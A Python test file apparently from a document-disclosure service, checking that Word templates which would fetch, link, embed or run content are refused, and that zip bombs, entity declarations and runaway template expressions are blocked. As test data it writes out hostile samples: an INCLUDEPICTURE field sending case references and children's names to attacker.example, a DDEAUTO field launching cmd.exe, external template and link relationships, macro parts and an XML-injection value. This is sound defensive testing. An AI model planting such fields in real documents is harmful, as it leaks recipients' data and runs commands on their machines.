"""A template may not make Word fetch, include, link, embed or run anything (security.md 2.17)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from disclosure_service.disclosures import documents, safety
from disclosure_service.paths import DOCUMENT_TEMPLATES_DIR
from tests.factories import docx_with

REQUIRED = "{{ reference }} {{ recipient_name }} {{ meeting_date }} {{ meeting_place }} {{ template_version }}"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rewrite(
    content: bytes, changes: dict[str, Callable[[bytes], bytes]], extra: dict[str, bytes] | None = None
) -> bytes:
    """The same zip with some parts changed and some added."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            data = source.read(entry)
            target.writestr(entry.filename, changes[entry.filename](data) if entry.filename in changes else data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def with_body(xml: str) -> bytes:
    """A valid undertaking template with raw WordprocessingML added to its body."""
    return rewrite(
        docx_with(REQUIRED),
        {"word/document.xml": lambda data: data.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)},
    )


def with_relationship(part: str, relationship: str) -> bytes:
    return rewrite(
        docx_with(REQUIRED),
        {part: lambda data: data.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")},
    )


def field(*pieces: str) -> str:
    """A complex field whose instruction is split over one run per piece, as Word often saves it."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


EXFILTRATING_PICTURE = (
    'INCLUDEPICTURE "http://attacker.example/p.png?ref={{ reference }}&amp;kids={{ child_names }}" \\d'
)
REFUSED = {
    "simple INCLUDEPICTURE": with_body(
        f"<w:p><w:fldSimple w:instr='{EXFILTRATING_PICTURE}'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
    ),
    "INCLUDEPICTURE split over runs": with_body(field(" INCLU", "DEPIC", 'TURE "http://a.example/?r={{ reference }}"')),
    "includetext in lower case": with_body(field(' includetext "\\\\\\\\server\\\\share\\\\x.docx"')),
    "LINK": with_body(field('LINK Excel.Sheet.8 "http://a.example/x.xls" "" \\a')),
    "DDEAUTO": with_body(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')),
    "IMPORT": with_body(field('IMPORT "http://a.example/x.wmf"')),
    "a field name built by a nested field": with_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + field('QUOTE "INCLUDEPICTURE"')[5:-6]
        + '<w:r><w:instrText> "http://a.example/"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "an external picture": with_relationship(
        "word/_rels/document.xml.rels",
        f'<Relationship Id="rId99" Type="{R}/image" Target="http://a.example/x.png" TargetMode="External"/>',
    ),
    "an external hyperlink in the package's own relationships": with_relationship(
        "_rels/.rels",
        f'<Relationship Id="rId98" Type="{R}/hyperlink" Target="http://a.example/" TargetMode="External"/>',
    ),
    "an attached template": rewrite(
        docx_with(REQUIRED),
        {
            "word/settings.xml": lambda data: data.replace(
                b"</w:settings>", f'<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/></w:settings>'.encode()
            )
        },
        {
            "word/_rels/settings.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="http://a.example/t.dotm" '
                'TargetMode="External"/></Relationships>'
            ).encode()
        },
    ),
    "an embedded object": with_body('<w:p><w:r><w:object w:dxaOrig="1" w:dyaOrig="1"/></w:r></w:p>'),
    "an altChunk": with_body('<w:altChunk xmlns:r="' + R + '" r:id="rId1"/>'),
    "macros": rewrite(
        docx_with(REQUIRED),
        {
            "[Content_Types].xml": lambda data: data.replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        },
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really"},
    ),
    "an embedded file": rewrite(docx_with(REQUIRED), {}, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
}


@pytest.mark.parametrize("content", REFUSED.values(), ids=REFUSED.keys())
def test_a_template_that_would_make_word_fetch_include_or_run_something_is_refused(content: bytes) -> None:
    found = documents.problems("undertaking", content)
    assert found, "accepted"
    assert all(message.startswith("The document ") for message in found), found


def test_the_refusal_names_the_field() -> None:
    found = documents.problems("undertaking", REFUSED["INCLUDEPICTURE split over runs"])
    assert found == [
        "The document contains a Word field that is not allowed (INCLUDEPICTURE): only page numbers, dates and "
        "references"
    ]


def test_fields_that_only_show_what_the_document_knows_are_allowed() -> None:
    content = with_body(
        field(" PAGE ")
        + '<w:p><w:fldSimple w:instr=" NUMPAGES \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    )
    assert documents.problems("undertaking", content) == []
    text = documents.text_of(documents.render(content, documents.sample_context("undertaking")))
    assert "<sample> & reference" in text


@pytest.mark.parametrize("path", sorted(DOCUMENT_TEMPLATES_DIR.glob("*.docx")), ids=lambda p: p.name)
def test_the_shipped_templates_have_nothing_unsafe(path: Path) -> None:
    assert safety.problems(path.read_bytes()) == []


def test_a_stored_template_with_a_fetching_field_makes_no_document() -> None:
    """One stored before these checks (or written into the database): refused when used, too."""
    with pytest.raises(safety.UnsafeDocumentError, match="INCLUDEPICTURE"):
        documents.render(REFUSED["simple INCLUDEPICTURE"], documents.sample_context("undertaking"))


def test_values_cannot_build_a_field_in_the_document() -> None:
    """Values are escaped, so text shaped like a field's XML stays text: the result has no field."""
    content = (DOCUMENT_TEMPLATES_DIR / "undertaking.en.v1.docx").read_bytes()
    sneaky = (
        '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE '
        '"http://a.example/"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>'
    )
    context = documents.sample_context("undertaking") | {"recipient_name": sneaky, "child_names": "INCLUDEPICTURE x"}
    rendered = documents.render(content, context)
    assert safety.problems(rendered) == []
    assert sneaky in documents.text_of(rendered)


def test_a_zip_bomb_is_refused_from_its_directory_without_inflating_anything(monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = rewrite(docx_with(REQUIRED), {}, {"word/media/zeros.png": bytes(safety.MAX_INFLATED_BYTES + 1)})
    assert len(bomb) < 100_000

    def inflate(*args: object, **kwargs: object) -> None:
        raise AssertionError("a part was inflated")

    monkeypatch.setattr(zipfile.ZipFile, "open", inflate)
    assert documents.problems("undertaking", bomb) == ["The document would be more than 10 MB unzipped"]
    with pytest.raises(safety.UnsafeDocumentError, match="unzipped"):
        documents.render(bomb, documents.sample_context("undertaking"))


def test_a_document_of_too_many_parts_is_refused() -> None:
    crowded = rewrite(docx_with(REQUIRED), {}, {f"customXml/extra{n}.xml": b"<a/>" for n in range(safety.MAX_PARTS)})
    assert documents.problems("undertaking", crowded)[0].startswith("The document has 1")


def test_a_part_with_its_own_entities_is_refused() -> None:
    laughs = rewrite(
        docx_with(REQUIRED),
        {
            "word/_rels/document.xml.rels": lambda data: data.replace(
                b"<Relationships", b'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">]><Relationships', 1
            )
        },
    )
    assert documents.problems("undertaking", laughs) == [
        "The document's part word/_rels/document.xml.rels declares its own entities"
    ]


def test_loops_and_repetition_are_bounded_in_the_template_sandbox() -> None:
    for tag in ("{% for i in range(101) %}x{% endfor %}", "{{ reference * 1000000 }}", "{{ 9 ** 9 ** 9 }}"):
        found = documents.problems("undertaking", docx_with(REQUIRED, tag))
        assert len(found) == 1, tag
        assert found[0].startswith("The template does not render"), found
